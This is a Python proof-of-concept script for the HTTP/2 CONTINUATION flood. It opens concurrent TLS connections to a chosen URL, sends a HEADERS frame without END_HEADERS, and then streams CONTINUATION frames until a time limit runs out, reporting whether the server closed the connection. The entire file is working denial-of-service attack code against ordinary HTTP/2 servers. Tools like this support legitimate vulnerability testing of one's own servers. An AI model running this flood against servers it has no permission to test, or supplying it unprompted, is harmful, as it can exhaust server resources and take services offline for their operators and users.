from rich.console import Console
import argparse
import logging

import utils
import h2_frames

import scapy.contrib.http2 as h2

import functools
import queue
import socket
import ssl
import sys
import threading
import time
from dataclasses import dataclass
from urllib.parse import urlsplit


DEFAULT_URL = 'https://localhost:8443'
PROGRESS_EVERY = 1000

# Raised by the socket or TLS layer when the peer tore the connection down under us.
PEER_CLOSED_ERRORS = (BrokenPipeError, ConnectionResetError, ssl.SSLEOFError, ssl.SSLZeroReturnError)


class FatalSetupError(Exception):
    """The connection could not be brought to the point where flooding starts."""

    def __init__(self, step, cause=None):
        self.step = step
        self.cause = cause
        message = 'failed to {}'.format(step)
        if cause is not None:
            message = '{}: {}'.format(message, cause)
        super().__init__(message)


@dataclass(frozen=True)
class FloodConfig:
    url: str = DEFAULT_URL
    connections: int = 1
    time_limit: float = 120
    wait: int = 0
    verbose: bool = False

    @property
    def host(self):
        return urlsplit(self.url).hostname

    @property
    def port(self):
        return urlsplit(self.url).port or 443

    @property
    def path(self):
        return urlsplit(self.url).path or '/'

    @property
    def authority(self):
        return urlsplit(self.url).netloc


@dataclass
class FloodResult:
    stream_id: int
    continuations_sent: int = 0
    end_headers_sent: bool = False
    peer_closed: bool = False
    send_errors: int = 0
    elapsed: float = 0.0


class StreamIdAllocator:
    """Odd client stream identifiers shared by every connection of the run."""

    def __init__(self, first=1):
        self._lock = threading.Lock()
        self._next = first

    def next_id(self):
        with self._lock:
            stream_id = self._next
            self._next += 2
        return stream_id


class FloodCounters:
    def __init__(self):
        self._lock = threading.Lock()
        self.sent_headers = 0
        self.sent_continuation = 0
        self.recv_frames = 0

    def increment(self, name):
        with self._lock:
            setattr(self, name, getattr(self, name) + 1)

    def snapshot(self):
        with self._lock:
            return {
                'sent_headers': self.sent_headers,
                'sent_continuation': self.sent_continuation,
                'recv_frames': self.recv_frames,
            }


class H2ContinuationFlooder:
    """
    Drives one connection: handshake, a HEADERS frame without END_HEADERS,
    then CONTINUATION frames until the time limit runs out or the server
    hangs up on us.
    """

    def __init__(self, config, counters, stream_ids, console=None, connect=None, number=0):
        self.config = config
        self.counters = counters
        self.stream_ids = stream_ids
        self.console = console or Console()
        self.logger = logging.getLogger(__name__)
        self.number = number

        if connect is None:
            connect = functools.partial(h2_frames.dial, config.host, config.port)
        self.connect = connect

        self.socket = None
        self.frame_reader = None
        self.reader_thread = None
        self.closing = threading.Event()
        self.peer_gone = threading.Event()
        # SETTINGS frames seen by the reader thread, acknowledged by the driver thread
        self.pending_acks = queue.Queue()

    def send_frame(self, frame):
        self.socket.sendall(bytes(frame))

    def establish_connection(self):
        utils.cprint(self, '[conn {}] Establishing TLS connection to {}...'.format(self.number, self.config.authority), 'ack')

        try:
            self.socket = self.connect()
        except OSError as e:
            self.logger.exception(e)
            raise FatalSetupError('dial {}'.format(self.config.authority), e) from e

        selected_alpn_protocol = getattr(self.socket, 'selected_alpn_protocol', None)
        if selected_alpn_protocol is not None:
            protocol = selected_alpn_protocol()
            if protocol != 'h2':
                utils.cprint(self, '[conn {}] Server negotiated ALPN protocol {!r} instead of \'h2\'.'.format(self.number, protocol), 'warning')

        self.frame_reader = h2_frames.FrameReader(self.socket)

    def send_h2_connection_preface(self):
        try:
            sent = self.socket.send(h2_frames.CLIENT_PREFACE)
        except OSError as e:
            self.logger.exception(e)
            raise FatalSetupError('send client preface', e) from e

        if sent != len(h2_frames.CLIENT_PREFACE):
            raise FatalSetupError('send client preface, wrote {} bytes; want {}'.format(sent, len(h2_frames.CLIENT_PREFACE)))

    def send_settings_frame(self):
        try:
            self.send_frame(h2_frames.settings_frame())
        except OSError as e:
            self.logger.exception(e)
            raise FatalSetupError('write settings', e) from e

    def want_settings(self):
        try:
            frame = self.frame_reader.read_frame()
        except OSError as e:
            self.logger.exception(e)
            raise FatalSetupError('read a SETTINGS frame', e) from e

        if frame is None:
            raise FatalSetupError('read a SETTINGS frame', 'connection closed by the server')
        if frame.type != h2.H2SettingsFrame.type_id:
            raise FatalSetupError('read a SETTINGS frame', 'got a {} frame'.format(h2_frames.frame_type_name(frame)))
        return frame

    def send_settings_ack(self):
        try:
            self.send_frame(h2_frames.settings_ack_frame())
        except OSError as e:
            self.logger.exception(e)
            raise FatalSetupError('write ACK of server\'s SETTINGS', e) from e

    def send_headers(self):
        hdrs = h2_frames.request_headers('GET', self.config.path, 'https', self.config.authority)
        header_size = h2_frames.header_block_size(hdrs)
        utils.cprint(self, 'Header size: {}'.format(header_size), 'info')

        stream_id = self.stream_ids.next_id()
        try:
            self.send_frame(h2_frames.headers_frame(stream_id, hdrs, end_headers=False, end_stream=False))
        except OSError as e:
            self.logger.exception(e)
            utils.cprint(self, '[{}] Failed to send HEADERS: {}'.format(stream_id, e), 'failure')
        else:
            self.counters.increment('sent_headers')
            utils.cprint(self, '[{}] Sent HEADERS on stream {}, total size = {}'.format(stream_id, stream_id, header_size), 'success')

        return stream_id

    def send_continuation_frame(self, stream_id, index, end_headers):
        frame = h2_frames.continuation_frame(stream_id, h2_frames.continuation_headers(index), end_headers=end_headers)
        try:
            self.send_frame(frame)
        except OSError as e:
            self.logger.debug('[%d] Failed to send CONTINUATION #%d: %s', stream_id, index, e)
            if self.config.verbose:
                utils.cprint(self, '[{}] Failed to send CONTINUATION: {}'.format(stream_id, e), 'failure')
            raise

        self.counters.increment('sent_continuation')
        if self.config.verbose:
            utils.cprint(self, '[{}] Sent CONTINUATION on stream {}'.format(stream_id, stream_id), 'ack')

    def send_pending_acks(self):
        while True:
            try:
                self.pending_acks.get_nowait()
            except queue.Empty:
                return
            self.send_frame(h2_frames.settings_ack_frame())
            self.logger.debug('connection %d: acknowledged server SETTINGS', self.number)

    def server_hung_up(self, result, started, error):
        self.logger.info('[%d] peer closed the connection: %s', result.stream_id, error)
        utils.cprint(self, 'connection closed by the server when sending CONTINUATION frame. Server is not likely vulnerable', 'failure')
        result.peer_closed = True
        result.elapsed = time.monotonic() - started
        return result

    def flood(self, stream_id):
        result = FloodResult(stream_id=stream_id)
        started = time.monotonic()
        deadline = started + self.config.time_limit

        index = 0
        while time.monotonic() < deadline:
            try:
                self.send_pending_acks()
                self.send_continuation_frame(stream_id, index, end_headers=False)
            except PEER_CLOSED_ERRORS as e:
                return self.server_hung_up(result, started, e)
            except OSError as e:
                # once the reader saw EOF, any write error means the server hung up
                if self.peer_gone.is_set():
                    return self.server_hung_up(result, started, e)
                result.send_errors += 1
            else:
                result.continuations_sent += 1
                if not self.config.verbose and result.continuations_sent % PROGRESS_EVERY == 0:
                    utils.cprint(self, '[{}] {} CONTINUATION frames sent'.format(stream_id, result.continuations_sent), 'info')
            index += 1

        try:
            self.send_continuation_frame(stream_id, index, end_headers=True)
        except OSError as e:
            self.logger.warning('[%d] final CONTINUATION with END_HEADERS was not sent: %s', stream_id, e)
        else:
            result.end_headers_sent = True
            utils.cprint(self, '[{}] Time limit reached, sent CONTINUATION with END_HEADERS after {} frames'.format(stream_id, result.continuations_sent), 'success')

        result.elapsed = time.monotonic() - started
        return result

    def handle_frame(self, frame):
        self.counters.increment('recv_frames')

        if frame.type == h2.H2HeadersFrame.type_id:
            utils.cprint(self, 'received HEADERS frame on stream {}'.format(frame.stream_id), 'info')
        elif frame.type == h2.H2GoAwayFrame.type_id:
            error = h2.H2ErrorCodes.literal.get(frame.error, hex(frame.error))
            utils.cprint(self, 'received GOAWAY frame: last stream id {}, error {}'.format(frame.last_stream_id, error), 'warning')
        elif frame.type == h2.H2SettingsFrame.type_id and 'A' not in frame.flags:
            utils.cprint(self, 'received SETTINGS frame, acknowledging', 'info')
            self.pending_acks.put(frame)
        else:
            utils.cprint(self, 'received {} frame on stream {}'.format(h2_frames.frame_type_name(frame), frame.stream_id), 'info')

    def read_frames(self):
        # Only reads here. Every write goes out on the driver thread, so the
        # TLS object never sees two concurrent writers.
        while True:
            try:
                frame = self.frame_reader.read_frame()
                if frame is None:
                    self.peer_gone.set()
                    return
                self.handle_frame(frame)
            except Exception as e:
                if self.closing.is_set():
                    return
                if isinstance(e, PEER_CLOSED_ERRORS):
                    self.peer_gone.set()
                    self.logger.info('connection %d closed by the server while reading: %s', self.number, e)
                    return
                self.logger.exception(e)
                utils.cprint(self, 'Failed to read frame: {}'.format(e), 'failure')
                return

    def start_frame_reader(self):
        self.reader_thread = threading.Thread(target=self.read_frames, name='h2-reader-{}'.format(self.number), daemon=True)
        self.reader_thread.start()

    def close_connection(self):
        if self.socket is None:
            return

        self.closing.set()
        try:
            self.socket.shutdown(socket.SHUT_RDWR)
        except OSError as e:
            self.logger.debug('shutdown of connection %d failed: %s', self.number, e)

        if self.reader_thread is not None:
            self.reader_thread.join(timeout=1)
        self.socket.close()

    def run(self):
        self.establish_connection()
        try:
            self.send_h2_connection_preface()
            self.send_settings_frame()
            self.want_settings()
            self.send_settings_ack()

            stream_id = self.send_headers()
            self.start_frame_reader()
            return self.flood(stream_id)
        finally:
            self.close_connection()


@dataclass
class Completion:
    number: int
    result: FloodResult = None
    error: Exception = None


class FleetCoordinator:
    def __init__(self, config, console=None, connect=None):
        self.config = config
        self.console = console or Console()
        self.logger = logging.getLogger(__name__)
        self.connect = connect

        self.counters = FloodCounters()
        self.stream_ids = StreamIdAllocator()
        self.completions = queue.Queue()
        self.results = {}

    def flood_connection(self, number):
        error = None
        result = None
        try:
            connect = None
            if self.connect is not None:
                connect = functools.partial(self.connect, number)
            flooder = H2ContinuationFlooder(self.config, self.counters, self.stream_ids, console=self.console, connect=connect, number=number)
            result = flooder.run()
        except Exception as e:
            error = e
        finally:
            self.completions.put(Completion(number, result, error))

    def launch(self, number):
        thread = threading.Thread(target=self.flood_connection, args=(number,), name='h2-flooder-{}'.format(number), daemon=True)
        thread.start()

    def record(self, completion):
        if completion.error is not None:
            self.logger.error('connection %d failed', completion.number, exc_info=completion.error)
            utils.cprint(self, '[conn {}] {}'.format(completion.number, completion.error), 'failure')
            utils.cprint(self, 'An exception has occurred. Please check the logs in the logs.log file for more details.', 'failure')
            return False

        self.results[completion.number] = completion.result
        return True

    def wait_between_launches(self):
        deadline = time.monotonic() + self.config.wait / 1000
        while True:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return True
            try:
                completion = self.completions.get(timeout=remaining)
            except queue.Empty:
                return True
            if not self.record(completion):
                return False

    def run(self):
        utils.cprint(self, 'Starting {} connection(s) against {} for {} seconds each...'.format(self.config.connections, self.config.url, self.config.time_limit), 'ack')

        for number in range(self.config.connections):
            self.launch(number)
            if number + 1 < self.config.connections and self.config.wait:
                if not self.wait_between_launches():
                    return 1

        while len(self.results) < self.config.connections:
            if not self.record(self.completions.get()):
                return 1

        self.print_summary()
        return 0

    def print_summary(self):
        counters = self.counters.snapshot()
        self.console.print('\n--- Summary ---', highlight=False)
        self.console.print('Frames sent: HEADERS = {}, CONTINUATION = {}'.format(counters['sent_headers'], counters['sent_continuation']), highlight=False)
        self.console.print('Frames received: {}'.format(counters['recv_frames']), highlight=False)

        rows = []
        for number, result in sorted(self.results.items()):
            verdict = 'closed by server' if result.peer_closed else 'flooded until time limit'
            rows.append((number, result.stream_id, result.continuations_sent, result.end_headers_sent, verdict, '{:.2f}'.format(result.elapsed)))
        utils.cprint_table(self, 'Connections', ['Conn', 'Stream', 'CONTINUATION', 'END_HEADERS', 'Outcome', 'Seconds'], rows)


def positive_int(value):
    number = int(value)
    if number < 1:
        raise argparse.ArgumentTypeError('must be at least 1, got {}'.format(value))
    return number


def non_negative_int(value):
    number = int(value)
    if number < 0:
        raise argparse.ArgumentTypeError('must not be negative, got {}'.format(value))
    return number


def non_negative_float(value):
    number = float(value)
    if number < 0:
        raise argparse.ArgumentTypeError('must not be negative, got {}'.format(value))
    return number


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description='Proof of concept for the HTTP/2 CONTINUATION flood: opens a stream and keeps sending CONTINUATION frames without END_HEADERS.')

    parser.add_argument('--url', default=DEFAULT_URL, help='Server URL (default: {}).'.format(DEFAULT_URL))
    parser.add_argument('--connections', type=positive_int, default=1, help='Number of concurrent connections (default: 1).')
    parser.add_argument('--time-limit', type=non_negative_float, default=120, help='Number of seconds to keep sending CONTINUATION frames on each connection (default: 120).')
    parser.add_argument('--wait', type=non_negative_int, default=0, help='Wait time in milliseconds between starting connections (default: 0).')
    parser.add_argument('--verbose', action='store_true', help='Print every CONTINUATION frame sent.')

    args = parser.parse_args(argv)

    if not urlsplit(args.url).hostname:
        parser.error('--url must include a host, got {!r}'.format(args.url))

    return FloodConfig(url=args.url, connections=args.connections, time_limit=args.time_limit, wait=args.wait, verbose=args.verbose)


def main(argv=None):
    logging.basicConfig(filename='logs.log', encoding='utf-8', level=logging.DEBUG)
    config = parse_args(argv)
    return FleetCoordinator(config).run()


if __name__ == '__main__':
    sys.exit(main())
